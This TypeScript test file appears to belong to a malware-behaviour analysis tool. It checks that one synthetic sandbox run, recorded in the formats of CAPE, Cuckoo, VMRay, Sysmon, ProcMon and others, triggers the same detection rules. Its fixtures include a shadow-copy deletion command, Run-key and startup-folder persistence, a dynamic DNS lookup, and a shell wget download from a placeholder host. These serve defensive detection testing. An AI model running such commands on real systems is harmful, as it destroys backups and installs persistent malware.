// One act, one rule: the same run as different sandboxes record it, each in its own spelling of paths, keys and names.

import { describe, expect, it } from 'vitest';
import { analyze } from '../../src/analyze.ts';
import { memorySource } from '../../src/bytes/source.ts';
import { loadRules } from '../../src/rules/load.ts';
import { builtInRulesFolder, readRuleTexts } from '../support/built-in-rules.ts';
import { capeCall, capeProcess, capeReport } from '../support/cape-report.ts';
import { cuckooCall, cuckooProcess, cuckooReport } from '../support/cuckoo2-report.ts';
import { effectLine, processLine } from '../support/drakvuf-log.ts';
import { call, flog, monitorProcess, monitorThread, param, summary } from '../support/vmray-archive.ts';

const { ruleSet: rules } = loadRules(
  readRuleTexts(builtInRulesFolder).filter(({ path }) => /[\\/]behavior[\\/]/.test(path)),
  { strict: true },
);

const RUN = 'set value under Run key';
const STARTUP = 'place file in startup folder';
const SHADOW = 'delete shadow copies by command';
const DNS = 'contact dynamic name';
const MUTEX = 'create mutex of known malware';

const STARTUP_FILE = 'Start Menu\\Programs\\Startup\\a.exe';
const FILE = `C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Windows\\${STARTUP_FILE}`;
const KEY = 'Software\\Microsoft\\Windows\\CurrentVersion\\Run';
const SID = 'S-1-5-21-1-2-3-1000';
const COMMAND = 'vssadmin.exe delete shadows /all /quiet';
const HOST = 'a.duckdns.org';

const json = (value: unknown): string => JSON.stringify(value);
const lines = (...values: readonly unknown[]): string => values.map(json).join('\n');
const sysmon = (id: number, data: object) => ({
  SourceName: 'Microsoft-Windows-Sysmon',
  Channel: 'Microsoft-Windows-Sysmon/Operational',
  EventID: id,
  ProcessGuid: '{1}',
  ProcessId: '100',
  Image: 'C:\\a.exe',
  ...data,
});
const text = (name: string, value: string) => param(name, 'ptr', '0x1000', { type: 'str', value });
const escaped = (path: string): string => path.replaceAll('\\', '\\\\');

/** Sandbox, the run as it records it, and what of that it shows. */
const RUNS: readonly (readonly [string, string, readonly string[]])[] = [
  [
    'CAPE',
    json(
      capeReport([
        capeProcess(100, [
          capeCall(1, 'RegSetValueExW', { FullName: `HKEY_CURRENT_USER\\${KEY}\\x`, Type: 1 }),
          capeCall(1, 'NtCreateFile', { FileName: FILE, DesiredAccess: '0x40100080', CreateDisposition: '5' }),
          capeCall(1, 'CreateProcessInternalW', { ApplicationName: '', CommandLine: COMMAND }),
          capeCall(1, 'GetAddrInfoW', { NodeName: HOST }),
          capeCall(1, 'NtCreateMutant', { MutexName: 'AsyncMutex_1' }),
        ]),
      ]),
    ),
    // The summary of the report has a service.
    [RUN, STARTUP, SHADOW, DNS, MUTEX, 'install service or set its program'],
  ],
  [
    'Cuckoo 2',
    json(
      cuckooReport([
        cuckooProcess(100, [
          cuckooCall(1, 'RegSetValueExA', { regkey: `HKEY_CURRENT_USER\\${KEY}\\x`, value: 'a' }),
          cuckooCall(1, 'CopyFileW', { oldfilepath: 'C:\\a.exe', newfilepath: FILE }),
          cuckooCall(1, 'ShellExecuteExW', { filepath: 'vssadmin.exe', parameters: 'delete shadows /all' }),
          cuckooCall(1, 'getaddrinfo', { hostname: HOST }),
        ]),
      ]),
    ),
    [RUN, STARTUP, SHADOW, DNS],
  ],
  [
    'VMRay, function log',
    flog([
      monitorProcess(),
      monitorThread(),
      call(
        'RegOpenKeyExW',
        [param('hKey', 'ptr', '0xffffffff80000001'), text('lpSubKey', escaped(KEY))],
        [param('phkResult', 'ptr', '0x2000', { type: 'ptr', value: '0x44' })],
      ),
      call('RegSetValueExW', [param('hKey', 'ptr', '0x44'), text('lpValueName', 'x')]),
      call('CopyFileW', [text('lpExistingFileName', 'C:\\\\a.exe'), text('lpNewFileName', escaped(FILE))]),
      call('CreateProcessW', [text('lpCommandLine', COMMAND)]),
    ]),
    [RUN, STARTUP, SHADOW],
  ],
  [
    'VMRay, summary',
    json(
      summary({
        filenames: { a: { filename: FILE.toLowerCase(), operations: ['access', 'write'] } },
        registry_records: { a: { reg_key_name: `HKEY_CURRENT_USER\\${KEY}\\x`, operations: ['write'] } },
        mutexes: { a: { name: 'AsyncMutex_1', operations: ['create'] } },
        network: { dns: { query_0: { name: HOST } } },
        processes: {
          process_1: { monitor_id: 1, monitor_reason: 'analysis_target', os_pid: 100, image_name: 'a.exe' },
          process_2: { monitor_id: 2, origin_monitor_id: 1, os_pid: 200, image_name: 'b.exe', cmd_line: COMMAND },
        },
      }),
    ),
    [RUN, STARTUP, SHADOW, DNS, MUTEX],
  ],
  [
    'DRAKVUF',
    [
      processLine(10, 2),
      effectLine('regmon', 'NtSetValueKey', { Key: `\\REGISTRY\\USER\\${SID}\\${KEY}`, ValueName: 'x' }),
      effectLine('filetracer', 'NtWriteFile', { FileName: FILE.slice(2) }),
      effectLine('procmon', 'NtCreateUserProcess', { CommandLine: `C:\\\\Windows\\\\${COMMAND}`, NewPid: 20 }),
    ].join('\n'),
    [RUN, STARTUP, SHADOW],
  ],
  [
    'strace',
    '10 execve("/bin/sh", ["sh", "-c", "wget http://a.example/x"], 0x1 /* 3 vars */) = 0\n10 +++ exited with 0 +++\n',
    ['download with command line client'],
  ],
  [
    'ANY.RUN',
    json({
      data: {
        analysis: { uuid: 't', content: { mainObject: { type: 'file', filename: 'a.exe' } } },
        environments: { os: { product: 'Windows' } },
        modified: {
          files: [{ filename: FILE, process: 'one', size: 1 }],
          registry: [{ key: `HKEY_CURRENT_USER\\${KEY}`, name: 'x', value: 'a', operation: 'WRITE', process: 'one' }],
        },
        network: { connections: [], dnsRequests: [{ domain: HOST }], httpRequests: [] },
        processes: [
          { uuid: 'one', pid: 100, ppid: 1, fileName: 'a.exe', image: 'C:\\a.exe', mainProcess: true },
          { uuid: 'two', parentUUID: 'one', pid: 200, ppid: 100, fileName: 'b.exe', commandLine: COMMAND },
        ],
      },
    }),
    [RUN, STARTUP, SHADOW, DNS],
  ],
  [
    'Triage, kernel log',
    lines(
      { kind: 'onemon.Process', event: { pid: 100, ppid: 50, image: 'C:\\a.exe', command: 'a.exe', ts: 1 } },
      { kind: 'onemon.File', event: { pid: 100, kind: 'CreateModify', srcpath: `\\??\\${FILE}`, ts: 2 } },
      {
        kind: 'onemon.Registry',
        event: { pid: 100, kind: 20, path: `\\REGISTRY\\USER\\${SID}\\${KEY}\\x`, values: 'a', ts: 3 },
      },
      { kind: 'onemon.Mutant', event: { pid: 100, path: '\\BaseNamedObjects\\AsyncMutex_1', ts: 4 } },
      { kind: 'onemon.Process', event: { pid: 200, ppid: 100, image: 'C:\\v.exe', command: COMMAND, ts: 5 } },
    ),
    [RUN, STARTUP, SHADOW, MUTEX],
  ],
  [
    'VirusTotal',
    json({
      data: [
        {
          type: 'file_behaviour',
          id: 'x',
          attributes: {
            sandbox_name: 'Some Sandbox',
            files_written: [`%APPDATA%\\Microsoft\\Windows\\${STARTUP_FILE}`],
            registry_keys_set: [{ key: `<HKCU>\\${KEY}\\\\x`, value: 'a' }],
            mutexes_created: ['AsyncMutex_1'],
            dns_lookups: [{ hostname: HOST }],
            processes_created: [`%WINDIR%\\System32\\${COMMAND}`],
          },
        },
      ],
    }),
    [RUN, STARTUP, SHADOW, DNS, MUTEX],
  ],
  [
    'Joe Sandbox',
    json({
      analysis: {
        generalinfo: { arch: 'WINDOWS', target: { sample: 'a.exe' } },
        fileinfo: { filename: 'a.exe' },
        behavior: {
          system: {
            processes: {
              process: [
                {
                  general: { pid: '100', name: 'a.exe', path: 'C:\\a.exe', cmdline: 'a.exe', reason: 'analysistarget' },
                  fileactivities: { fileCreated: { call: [{ path: FILE }] } },
                  registryactivities: { keyValueCreated: { call: [{ path: `HKEY_CURRENT_USER\\${KEY}`, name: 'x' }] } },
                  mutexactivities: { mutexCreated: { call: [{ name: '\\BaseNamedObjects\\AsyncMutex_1' }] } },
                },
                { general: { pid: 200, parentpid: 100, name: 'b.exe', cmdline: COMMAND } },
              ],
            },
          },
          network: { dns: { packet: [{ name: HOST }] } },
        },
      },
    }),
    [RUN, STARTUP, SHADOW, DNS, MUTEX],
  ],
  [
    'Hybrid Analysis',
    json({
      environment_id: 100,
      threat_score: 1,
      submit_name: 'a.exe',
      domains: [HOST],
      processes: [
        {
          uid: '1-00000100',
          name: 'a.exe',
          mutants: ['\\Sessions\\1\\BaseNamedObjects\\AsyncMutex_1'],
          created_files: [{ file: `%APPDATA%\\Microsoft\\Windows\\${STARTUP_FILE}` }],
          registry: [{ operation: 'SetVal', path: `HKCU\\${KEY}`, key: 'x', value: 'a', status: '00000000' }],
        },
        { uid: '2-00000200', parentuid: '1-00000100', name: 'b.exe', command_line: COMMAND },
      ],
    }),
    [RUN, STARTUP, SHADOW, DNS, MUTEX],
  ],
  [
    'WildFire',
    json({
      wildfire: {
        file_info: {},
        task_info: {
          report: {
            software: 'Windows 7',
            network: { dns: { '@query': HOST } },
            process_list: {
              process: {
                '@name': 'a.exe',
                '@pid': '100',
                process_activity: { Create: { '@child_pid': '200', '@command': COMMAND } },
                registry: { Set: [{ '@key': `\\REGISTRY\\USER\\${SID}\\${KEY}`, '@subkey': 'x' }] },
                file: { Create: [{ '@name': FILE }] },
                mutex: { CreateMutex: { '@name': 'AsyncMutex_1' } },
              },
            },
          },
        },
      },
    }),
    [RUN, STARTUP, SHADOW, DNS, MUTEX],
  ],
  [
    'ProcMon',
    [
      '"Process Name","PID","Operation","Path","Result","Detail"',
      `"a.exe","100","RegSetValue","HKCU\\${KEY}\\x","SUCCESS","Type: REG_SZ"`,
      `"a.exe","100","WriteFile","${FILE}","SUCCESS","Offset: 0"`,
      `"a.exe","100","Process Create","C:\\v.exe","SUCCESS","PID: 200, Command line: ${COMMAND}"`,
    ].join('\r\n'),
    [RUN, STARTUP, SHADOW],
  ],
  [
    'Sysmon',
    lines(
      sysmon(13, { EventType: 'SetValue', TargetObject: `HKU\\${SID}\\${KEY}\\x` }),
      sysmon(11, { TargetFilename: FILE }),
      sysmon(22, { QueryName: HOST }),
      sysmon(1, { ProcessGuid: '{2}', ProcessId: '200', ParentProcessGuid: '{1}', CommandLine: COMMAND }),
    ),
    [RUN, STARTUP, SHADOW, DNS],
  ],
];

describe('what was done has the same rules whatever recorded it', () => {
  it.each(RUNS)('%s', async (_, report, expected) => {
    const { document } = await analyze(memorySource('report', Buffer.from(report)), { rules });
    expect(document.rules.map(({ meta }) => meta.name).sort()).toEqual([...expected].sort());
  });
});
